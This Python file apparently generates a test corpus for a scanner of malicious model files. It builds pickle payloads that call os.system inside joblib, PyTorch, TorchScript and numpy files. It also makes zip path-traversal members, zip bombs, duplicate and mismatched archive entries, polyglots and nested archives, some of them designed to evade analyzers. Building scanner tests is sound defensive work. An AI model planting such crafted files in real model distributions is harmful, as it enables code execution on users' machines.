"""Malicious payloads inside framework containers and archives.

torch.save, joblib.dump and numpy.save are used only to dump; nothing here loads.
"""

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import tarfile
import warnings
import zipfile

from corpus_common import Writer
from corpus_pickles import Reduce, dumps_call


def build(w: Writer) -> None:
    _joblib(w)
    _torch(w)
    _numpy(w)
    _zip_tricks(w)
    _polyglots(w)
    _nested_archives(w)


def _payload(w: Writer, technique: str) -> Reduce:
    return Reduce(os.system, (w.command(technique),))


def _joblib(w: Writer) -> None:
    import joblib
    import numpy as np

    t = "joblib-payload"
    obj = {"weights": np.arange(6.0), "hook": _payload(w, t)}
    for compress, ext in (
        (0, "joblib"),
        (("zlib", 3), "joblib"),
        (("gzip", 3), "gz"),
        (("bz2", 3), "bz2"),
        (("xz", 3), "xz"),
        (("lzma", 3), "lzma"),
    ):
        label = compress[0] if compress else "plain"
        target = w.path(f"joblib/model_{label}.{ext}")
        joblib.dump(obj, target, compress=compress)
        w.bad(
            str(target.relative_to(w.root)),
            None,
            technique=t,
            fmt=f"joblib-{label}",
            note=f"joblib.dump compress={compress!r} of a dict with a __reduce__ payload",
        )

    t = "joblib-array-size-desync"
    count = 64
    target = w.path("joblib/lying_elsize.joblib")
    joblib.dump(np.zeros(count), target)
    data = target.read_bytes()
    # numpy ignores the element size in a float64 dtype's state; an analyzer that believes
    # it (16 bytes) skips the call that joblib unpickles right after the 8-byte elements.
    state = b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t"
    at = data.index(state)
    head = data[:at] + b"J\x10\x00\x00\x00" + data[at + 5 : -(8 * count + 1)]
    command = w.command(t).encode()
    after = b"cos\nsystem\n(X" + struct.pack("<I", len(command)) + command + b"tR0(B"
    pad = 16 * count - (8 * count + len(after) + 4 + 1)
    body = b"\x00" * (8 * count) + after + struct.pack("<I", pad) + b"\x00" * pad + b"1"
    w.bad(
        "joblib/lying_elsize.joblib",
        head + body + b".",
        technique=t,
        fmt="joblib-plain",
        note="NumpyArrayWrapper whose float64 dtype state claims 16-byte elements: joblib "
        "reads 8-byte elements (as numpy says) and then unpickles an os.system call",
    )


def _torch_state() -> dict[str, object]:
    import torch

    torch.manual_seed(0)
    return dict(torch.nn.Linear(4, 2).state_dict())


def _torch(w: Writer) -> None:
    import torch

    t = "torch-zip-payload"
    for name, obj in (
        ("model.pt", {"state_dict": _torch_state(), "hook": _payload(w, t)}),
        ("pytorch_model.bin", {**_torch_state(), "extra": _payload(w, t)}),
        ("checkpoint.ckpt", [_payload(w, t), _torch_state()]),
    ):
        target = w.path(f"torch/{name}")
        torch.save(obj, target)
        w.bad(
            f"torch/{name}",
            None,
            technique=t,
            fmt="pytorch-zip",
            note="torch.save zip checkpoint whose data.pkl carries a __reduce__ payload",
        )
    buffer = io.BytesIO()
    torch.save({"hook": _payload(w, t)}, buffer, pickle_protocol=4)
    w.bad(
        "torch/model_p4.pth",
        buffer.getvalue(),
        technique=t,
        fmt="pytorch-zip",
        note="torch.save with pickle_protocol=4",
    )

    t = "torch-extra-pkl-member"
    base = io.BytesIO()
    torch.save(_torch_state(), base)
    w.bad(
        "torch/extra_member.pt",
        _rezip(
            base.getvalue(),
            add={"archive/extra/hook.pkl": dumps_call(os.system, (w.command(t),), 2)},
        ),
        technique=t,
        fmt="pytorch-zip",
        note="clean data.pkl plus an extra *.pkl member",
    )
    w.bad(
        "torch/data_pkl_swapped.pt",
        _rezip(base.getvalue(), replace={"data.pkl": dumps_call(os.system, (w.command(t),), 2)}),
        technique=t,
        fmt="pytorch-zip",
        note="data.pkl swapped for a payload after saving",
    )

    t = "torchscript-constants-payload"
    scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU()))
    script_buf = io.BytesIO()
    torch.jit.save(scripted, script_buf)
    for proto in (2, 4):
        w.bad(
            f"torch/scripted_constants_p{proto}.pt",
            _rezip(
                script_buf.getvalue(),
                replace={"constants.pkl": dumps_call(os.system, (w.command(t),), proto)},
            ),
            technique=t,
            fmt="torchscript",
            note="torch.jit.save archive with constants.pkl replaced by a payload",
        )
    w.bad(
        "torch/scripted_data_pkl.pt",
        _rezip(
            script_buf.getvalue(), replace={"data.pkl": dumps_call(os.system, (w.command(t),), 2)}
        ),
        technique=t,
        fmt="torchscript",
        note="TorchScript archive with a payload data.pkl",
    )

    t = "torchscript-file-op"
    w.bad(
        "torch/scripted_from_file.pt",
        _scripted_file_reader(),
        technique=t,
        fmt="torchscript",
        expect="suspicious",
        note="real torch.jit.script module whose code reads a host file (torch.from_file)",
    )

    t = "torch-legacy-pickle-payload"
    for proto in (2, 4):
        buf = io.BytesIO()
        torch.save(
            {"state_dict": _torch_state(), "hook": _payload(w, t)},
            buf,
            _use_new_zipfile_serialization=False,
            pickle_protocol=proto,
        )
        w.bad(
            f"torch/legacy_p{proto}.pt",
            buf.getvalue(),
            technique=t,
            fmt="pytorch-legacy",
            note=f"torch.save _use_new_zipfile_serialization=False, protocol {proto}",
        )

    t = "torch-legacy-tar-payload"
    for member in ("pickle", "sys_info"):
        w.bad(
            f"torch/legacy_tar_{member}.tar",
            _legacy_tar(w, t, evil_member=member),
            technique=t,
            fmt="pytorch-legacy-tar",
            note=f"pre-1.0 tar checkpoint with the payload in its '{member}' member",
        )


def _scripted_file_reader() -> bytes:
    import torch

    class FileReader(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            if bool(x.sum() > 1e30):
                return x + torch.from_file("/etc/hostname", False, 4).sum()
            return x

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(FileReader()), buf)
    return buf.getvalue()


def _legacy_tar(w: Writer, technique: str, *, evil_member: str) -> bytes:
    sys_info = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    members = {
        "sys_info": pickle.dumps(sys_info, protocol=2),
        "pickle": pickle.dumps({"epoch": 1}, protocol=2),
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    members[evil_member] = dumps_call(os.system, (w.command(technique),), 2)
    return _tar(members)


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(
                zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)),
                data,
                compress_type=compression,
            )
    return buf.getvalue()


_CHUNK = b"\x00" * (1024 * 1024)


def _zeros_zip(name: str, size: int) -> bytes:
    """A zip whose one member inflates to `size` zero bytes, written in chunks."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=False) as member:
            for _ in range(size // len(_CHUNK)):
                member.write(_CHUNK)
    return buf.getvalue()


def _zeros_gzip(size: int) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as out:
        for _ in range(size // len(_CHUNK)):
            out.write(_CHUNK)
    return buf.getvalue()


def _rezip(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_STORED,
) -> bytes:
    """Copy a zip, replacing members by basename and adding new ones."""
    replace = replace or {}
    members: dict[str, bytes] = {}
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        prefix = zf.namelist()[0].split("/", 1)[0]
        for name in zf.namelist():
            base = name.split("/", 1)[-1]
            members[name] = replace.get(base, zf.read(name))
    for name, blob in (add or {}).items():
        members[name.replace("archive/", prefix + "/", 1)] = blob
    return _zip(members, compression)


def _numpy(w: Writer) -> None:
    import numpy as np

    t = "numpy-object-array"
    arr = np.empty(2, dtype=object)
    arr[0] = _payload(w, t)
    arr[1] = "label"
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    w.bad(
        "numpy/object_array.npy",
        buf.getvalue(),
        technique=t,
        fmt="npy",
        note="np.save of an object array holding a __reduce__ payload",
    )
    target = w.path("numpy/object_array.npz")
    np.savez(target, weights=np.arange(4.0), extra=arr)
    w.bad(
        "numpy/object_array.npz",
        None,
        technique=t,
        fmt="npz",
        note="np.savez with one object-array member",
    )
    target = w.path("numpy/object_array_compressed.npz")
    np.savez_compressed(target, extra=arr)
    w.bad(
        "numpy/object_array_compressed.npz",
        None,
        technique=t,
        fmt="npz",
        note="np.savez_compressed with an object-array member",
    )
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    raw = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
    w.bad(
        "numpy/object_v1_raw.npy",
        raw + dumps_call(os.system, (w.command(t),), 2),
        technique=t,
        fmt="npy",
        note="hand-written .npy v1 header, object dtype, payload",
    )
    t = "npz-npy-in-torch-storage-folder"
    for member in ("weights/data/x.npy", "weights/data/0"):
        w.bad(
            f"numpy/torch_layout_{member.rsplit('/', 1)[-1].replace('.', '_')}.npz",
            _zip(
                {
                    "weights/data.pkl": pickle.dumps({"step": 1}, protocol=2),
                    member: raw + dumps_call(os.system, (w.command(t),), 2),
                }
            ),
            technique=t,
            fmt="npz",
            note="a torch-shaped member layout (weights/data.pkl) around an object-array "
            f".npy stored as the 'storage' {member}: numpy.load reads every member with the "
            ".npy magic, whatever its name",
        )


def _zip_tricks(w: Writer) -> None:
    t = "zip-name-mismatch"
    payload = dumps_call(os.system, (w.command(t),), 2)
    data = bytearray(_zip({"archive/data.pkl": payload, "archive/version": b"3\n"}))
    local = data.index(b"archive/data.pkl")
    data[local : local + 16] = b"archive/xata.pkl"
    w.bad(
        "zips/name_mismatch_payload.zip",
        bytes(data),
        technique=t,
        fmt="zip",
        note="local header name differs from the central directory; payload member",
    )
    data = bytearray(_zip({"weights.txt": b"0.1 0.2 0.3\n"}))
    local = data.index(b"weights.txt")
    data[local : local + 11] = b"../evil.pkl"
    w.bad(
        "zips/name_mismatch_benign.zip",
        bytes(data),
        technique=t,
        fmt="zip",
        expect="suspicious",
        note="local name '../evil.pkl', central name 'weights.txt'",
    )

    t = "zip-duplicate-names"
    dup_payload = dumps_call(os.system, (w.command(t),), 2)
    torch_zip = _torch_zip()
    with zipfile.ZipFile(io.BytesIO(torch_zip)) as zf:
        originals = {name: zf.read(name) for name in zf.namelist()}
    data_pkl = next(name for name in originals if name.endswith("/data.pkl"))
    for where in ("last", "first"):
        buf = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate on purpose
            with zipfile.ZipFile(buf, "w") as out:
                if where == "first":
                    out.writestr(data_pkl, dup_payload)
                for name, blob in originals.items():
                    out.writestr(name, blob)
                if where == "last":
                    out.writestr(data_pkl, dup_payload)
        w.bad(
            f"zips/duplicate_payload_{where}.pt",
            buf.getvalue(),
            technique=t,
            fmt="pytorch-zip",
            note=f"torch zip with two {data_pkl} entries, the payload one {where}",
        )

    t = "torch-zip-deflated"
    w.bad(
        "torch/deflated_data_pkl.pt",
        _rezip(
            torch_zip,
            replace={"data.pkl": dumps_call(os.system, (w.command(t),), 2)},
            compression=zipfile.ZIP_DEFLATED,
        ),
        technique=t,
        fmt="pytorch-zip",
        note="torch zip re-packed with deflate: data.pkl is compressed, not stored",
    )

    t = "archive-path-traversal"
    for stem, name in (
        ("dotdot", "../../.bashrc"),
        ("absolute", "/etc/cron.d/job"),
        ("inner_dotdot", "model/../../../x.pkl"),
    ):
        w.bad(
            f"zips/traversal_{stem}.zip",
            _zip({name: b"echo hi\n"}),
            technique=t,
            fmt="zip",
            note=f"zip member named {name!r}",
        )
    w.bad(
        "zips/traversal.tar",
        _tar({"../../.profile": b"true\n"}),
        technique=t,
        fmt="tar",
        note="tar member '../../.profile'",
    )
    w.bad(
        "zips/traversal.tar.gz",
        gzip.compress(_tar({"/tmp/x/abs.pkl": b"x"}), mtime=0),
        technique=t,
        fmt="tar.gz",
        note="tar.gz member with an absolute name",
    )

    t = "archive-bomb"
    # 80 MiB of zeros: past the size where ratio guards usually start (64 MiB), yet
    # under 100 MB so scanning it stays cheap; real bombs are gigabytes.
    bomb_size = 80 * 1024 * 1024
    w.bad(
        "zips/bomb_ratio.zip",
        _zeros_zip("weights.bin", bomb_size),
        technique=t,
        fmt="zip",
        expect="suspicious",
        note="80 MiB of zeros deflated to ~80 KiB: ratio ~1000",
    )
    w.bad(
        "zips/bomb_ratio.gz",
        _zeros_gzip(bomb_size),
        technique=t,
        fmt="gzip",
        expect="suspicious",
        note="gzip of 80 MiB of zeros: ratio ~1000",
    )

    t = "archive-nesting-depth"
    inner = dumps_call(os.system, (w.command(t),), 2)
    blob = _zip({"model.pkl": inner})
    for level in range(8):
        blob = _zip({f"level{level}.zip": blob})
    w.bad(
        "zips/nested_9_deep.zip",
        blob,
        technique=t,
        fmt="zip",
        expect="suspicious",
        note="zip in zip nine levels deep, beyond the default max_depth of 6",
    )

    t = "zip-encrypted-member"
    data = bytearray(_zip({"data.pkl": inner}))
    data[6] |= 1  # local header: general purpose flag bit 0, encrypted
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 1
    w.bad(
        "zips/encrypted_flag.zip",
        bytes(data),
        technique=t,
        fmt="zip",
        expect="suspicious",
        note="member flagged as encrypted: it cannot be scanned",
    )


def _polyglots(w: Writer) -> None:
    import torch

    t = "pickle-zip-polyglot"
    clean = io.BytesIO()
    torch.save(_torch_state(), clean)
    evil = dumps_call(os.system, (w.command(t),), 2)
    w.bad(
        "polyglot/pickle_then_torch_zip.pt",
        evil + clean.getvalue(),
        technique=t,
        fmt="pickle+zip",
        note="malicious pickle followed by a clean torch zip",
    )
    bad_zip = _rezip(clean.getvalue(), replace={"data.pkl": evil})
    w.bad(
        "polyglot/benign_pickle_then_evil_zip.pt",
        pickle.dumps({"epoch": 1}, protocol=2) + bad_zip,
        technique=t,
        fmt="pickle+zip",
        note="clean pickle, then a zip whose data.pkl is the payload (zipfile opens it)",
    )
    w.bad(
        "polyglot/evil_pickle_then_zip.bin",
        evil + _zip({"README.md": b"# model\n"}),
        technique=t,
        fmt="pickle+zip",
        note="payload pickle prefixed to a benign-looking zip",
    )


def _nested_archives(w: Writer) -> None:
    import py7zr

    t = "nested-archives"
    evil = dumps_call(os.system, (w.command(t),), 4)
    in_zip = _zip({"model/model.pkl": evil}, zipfile.ZIP_DEFLATED)
    tgz = gzip.compress(_tar({"bundle/model.zip": in_zip}), mtime=0)
    w.bad(
        "nested/zip_in_tgz.tar.gz",
        tgz,
        technique=t,
        fmt="tar.gz>zip>pickle",
        note="pickle in zip in tar.gz",
    )
    target = w.path("nested/zip_in_tgz_in_7z.7z")
    with py7zr.SevenZipFile(target, "w") as archive:
        archive.writestr(tgz, "bundle.tar.gz")
    w.bad(
        "nested/zip_in_tgz_in_7z.7z",
        None,
        technique=t,
        fmt="7z>tar.gz>zip>pickle",
        note="pickle in zip in tar.gz in 7z",
    )
    w.bad(
        "nested/pickle.pkl.gz",
        gzip.compress(evil, mtime=0),
        technique=t,
        fmt="gzip",
        note="gzip-compressed pickle",
    )
    w.bad(
        "nested/pickle.pkl.xz",
        lzma.compress(evil),
        technique=t,
        fmt="xz",
        note="xz-compressed pickle",
    )
    w.bad(
        "nested/tar_bz2_of_torch.tar.bz2",
        bz2.compress(_tar({"ckpt/model.pt": _rezip(_torch_zip(), replace={"data.pkl": evil})})),
        technique=t,
        fmt="tar.bz2>pytorch-zip",
        note="torch zip with payload in tar.bz2",
    )
    w.bad(
        "nested/zip_in_zip.zip",
        _zip({"inner.zip": in_zip}),
        technique=t,
        fmt="zip>zip>pickle",
        note="zip in zip",
    )


def _torch_zip() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_torch_state(), buf)
    return buf.getvalue()
